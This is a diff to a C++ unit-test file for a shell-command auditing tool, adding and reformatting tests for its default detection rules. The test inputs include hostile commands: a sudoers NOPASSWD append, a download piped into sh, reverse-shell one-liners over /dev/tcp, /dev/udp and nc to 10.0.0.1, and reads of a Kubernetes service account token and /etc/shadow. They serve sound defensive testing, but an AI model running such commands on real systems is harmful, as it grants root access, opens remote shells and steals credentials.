@@ -13,13 +13,14 @@ namespace {
 
 const shaudit::rules::RuleSet& rules() {
   static auto r = shaudit::rules::load_rules({SHAUDIT_DEFAULT_RULES});
+  static const shaudit::rules::RuleSet none;  // a failed load fails every test, cleanly
   if (!r) ADD_FAILURE() << r.message();
-  return *r;
+  return r ? *r : none;
 }
 
 Object typed(const std::string& text, bool container = false) {
   Object o{{"type", "command"}, {"text", text}, {"user", "alice"}, {"session", "0123456789abcdef"},
-           {"shell", "bash"}, {"pid", 42}};
+           {"shell", "bash"},   {"pid", 42}};
   if (container) o["container_id"] = std::string(64, 'c');
   return o;
 }
@@ -27,13 +28,20 @@ Object typed(const std::string& text, bool container = false) {
 Object exec(std::vector<std::string> argv) {
   Array a;
   for (auto& s : argv) a.emplace_back(s);
-  return Object{{"type", "exec"}, {"argv", std::move(a)}, {"path", argv.empty() ? "" : argv[0]},
-                {"user", "alice"}, {"pid", 43}};
+  return Object{{"type", "exec"},
+                {"argv", std::move(a)},
+                {"path", argv.empty() ? "" : argv[0]},
+                {"user", "alice"},
+                {"pid", 43}};
 }
 
 Object bypass(const std::string& kind) {
-  return Object{{"type", "bypass"}, {"kind", kind}, {"pid", 44}, {"exe", "/bin/sh"},
-                {"argv", Array{"/bin/sh", "-c", "id"}}, {"session", "0123456789abcdef"}};
+  return Object{{"type", "bypass"},
+                {"kind", kind},
+                {"pid", 44},
+                {"exe", "/bin/sh"},
+                {"argv", Array{"/bin/sh", "-c", "id"}},
+                {"session", "0123456789abcdef"}};
 }
 
 std::vector<std::string> fired(const Object& rec, const char* joined = nullptr) {
@@ -47,7 +55,9 @@ std::vector<std::string> fired(const Object& rec, const char* joined = nullptr) 
 
 using V = std::vector<std::string>;
 
-TEST(DefaultRules, LoadAll) { EXPECT_EQ(rules().rule_count(), 12u); }
+TEST(DefaultRules, LoadAll) {
+  EXPECT_EQ(rules().rule_count(), 12u);
+}
 
 TEST(DefaultRules, WriteBelowEtc) {
   EXPECT_EQ(fired(typed("echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers")),
@@ -77,6 +87,7 @@ TEST(DefaultRules, DownloadIntoShell) {
   Object last = typed("| sh");
   last["continuation"] = true;
   EXPECT_EQ(fired(last, "curl http://x.example/i.sh \\\n| sh"), V{"Download piped into a shell"});
+  EXPECT_EQ(fired(last), V{});  // the line alone does not
   EXPECT_EQ(fired(typed("curl -o file https://x.example/i.sh")), V{});
   EXPECT_EQ(fired(typed("cat notes | shasum")), V{});
 }
@@ -84,6 +95,7 @@ TEST(DefaultRules, DownloadIntoShell) {
 TEST(DefaultRules, ReverseShell) {
   EXPECT_EQ(fired(typed("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")), V{"Reverse shell one-liner"});
   EXPECT_EQ(fired(typed("nc -e /bin/sh 10.0.0.1 4444")), V{"Reverse shell one-liner"});
+  EXPECT_EQ(fired(typed("sh -i < /dev/udp/10.0.0.1/53")), V{"Reverse shell one-liner"});
   EXPECT_EQ(fired(typed("nc -zv 10.0.0.1 22")), V{});
 }
 
@@ -97,6 +109,8 @@ TEST(DefaultRules, ClearHistory) {
 
 TEST(DefaultRules, ServiceAccountToken) {
   EXPECT_EQ(fired(typed("cat /var/run/secrets/kubernetes.io/serviceaccount/token")),
+            V{"Read Kubernetes service account token"});
+  EXPECT_EQ(fired(exec({"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"})),
             V{"Read Kubernetes service account token"});
   EXPECT_EQ(fired(typed("ls /var/run/secrets")), V{});
 }
@@ -119,7 +133,8 @@ TEST(DefaultRules, OutputIsRendered) {
   shaudit::rules::EvalContext ctx;
   auto m = rules().evaluate(typed("sudo cat /etc/shadow"), ctx);
   ASSERT_EQ(m.size(), 1u);
-  EXPECT_EQ(m[0].output, "alice read credentials (session 0123456789abcdef): sudo cat /etc/shadow<NA>");
+  EXPECT_EQ(m[0].output,
+            "alice read credentials (session 0123456789abcdef): sudo cat /etc/shadow<NA>");
 }
 
 }  // namespace
